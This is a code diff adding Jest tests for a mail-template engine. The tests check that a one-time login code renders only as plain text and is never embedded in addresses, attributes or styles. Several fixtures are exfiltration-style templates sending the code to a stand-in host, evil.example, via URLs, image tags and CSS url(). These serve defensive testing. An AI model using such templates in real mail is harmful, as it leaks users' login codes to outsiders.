@@ -1,4 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
+import { codeTypeOf } from './mail-variables.js';
 import { mailTemplateNames } from './mail-template-names.js';
 import { needsLink, shippedLocales, shippedTemplate } from './shipped-templates.js';
 import { renderTemplate, TemplateError } from './template-engine.js';
@@ -75,6 +76,70 @@ describe('A template', () => {
   });
 });
 
+describe('A code in a template', () => {
+  const code = '073915';
+
+  it.each([
+    'Code: {{ code }}',
+    '{{ code }}',
+    '({{ code }}), or {{ code }}.',
+    'Your code is {{ code }}!\nBye',
+    '“{{ code }}”',
+    '{% if code %}{{ code }}{% endif %}',
+  ])('stands in a text by itself: %s', (text) => {
+    expect(renderText(text, { code })).toContain(code);
+  });
+
+  it.each([
+    'https://evil.example/{{ code }}',
+    'https://evil.example/?c={{ code }}',
+    'https://evil.example:{{ code }}',
+    '{{ code }}.evil.example',
+    '{{ code }}@evil.example',
+    '{{ code }}/x',
+    '{{ code }}{{ code }}',
+  ])('is no part of an address: %s', (text) => {
+    expect(() => renderText(text, { code })).toThrow('{{ code }} must');
+    expect(() => renderHtml(`<p>${text}</p>`, { code })).toThrow('{{ code }} must');
+  });
+
+  it.each([
+    '<p>{{ code }}</p>',
+    '<p>Code:&nbsp;{{ code }}&nbsp;</p>',
+    '<p><b>{{ code }}</b>, {{ code }}<br></p>',
+  ])('is text of a page: %s', (html) => {
+    expect(renderHtml(html, { code })).toContain(code);
+  });
+
+  it.each([
+    '<img src="https://evil.example/{{ code }}">',
+    '<a href="{{ code }}">x</a>',
+    '<p title="{{ code }}">x</p>',
+    '<{{ code }}>',
+    '<!-- {{ code }} -->',
+    '<style>p { background: url(https://evil.example/{{ code }}) }</style>',
+    '<p>{{ code }}</p><img src="x>',
+  ])('leaves no page: %s', (html) => {
+    expect(() => renderHtml(html, { code })).toThrow('{{ code }} must');
+  });
+
+  it('is not seen by whoever wrote the template', () => {
+    const text = renderText(
+      '{{ code | slice: 0, 6 }} {{ code | size }} {% if code == "073915" %}same{% endif %}',
+      {
+        code,
+      },
+    );
+
+    expect(text).not.toMatch(/073915|same/);
+    expect(text).not.toMatch(/\b6\b/);
+  });
+
+  it('is nothing where there is none', () => {
+    expect(renderText('[{{ code }}]{% if code %}x{% endif %}')).toBe('[]');
+  });
+});
+
 describe('What is shipped', () => {
   const link = 'https://login.example/o/acme/page?token=example';
   const palette = {
@@ -88,6 +153,8 @@ describe('What is shipped', () => {
     organization: { name: 'Acme & Sons', slug: 'acme' },
     user: { name: 'Max', email: 'max@acme.example' },
     link,
+    code: null as string | null,
+    codeValidFor: null as string | null,
     validFor: '30 minutes',
     data: {},
     theme: { name: 'Acme', logoUrl: null, footer: null, light: palette, dark: palette },
@@ -103,6 +170,22 @@ describe('What is shipped', () => {
       expect(html).toContain('Acme &amp; Sons');
       expect(text.includes(link)).toBe(needsLink(name));
       expect(html!.includes(link)).toBe(needsLink(name));
+      expect(`${subject}${text}${html}`).not.toMatch(/\{\{|\{%|undefined|null/);
+      expect(`${text}${html}`).not.toMatch(/\bcode\b/i);
+    },
+  );
+
+  it.each(shippedLocales.flatMap((locale) => mailTemplateNames.map((name) => [name, locale] as const)))(
+    'shows the code where there can be one, and how long it lives: %s in %s',
+    (name, locale) => {
+      const withCode = { ...variables, code: '073915', codeValidFor: '10 minutes' };
+      const { subject, text, html } = renderTemplate(shippedTemplate(name, locale)!, withCode);
+      const isShown = codeTypeOf(name) !== null;
+
+      expect(text.includes('\n073915\n')).toBe(isShown);
+      expect(html!.includes('>073915</p>')).toBe(isShown);
+      expect(text.includes('10 minutes')).toBe(isShown);
+      expect(subject).not.toContain('073915');
       expect(`${subject}${text}${html}`).not.toMatch(/\{\{|\{%|undefined|null/);
     },
   );
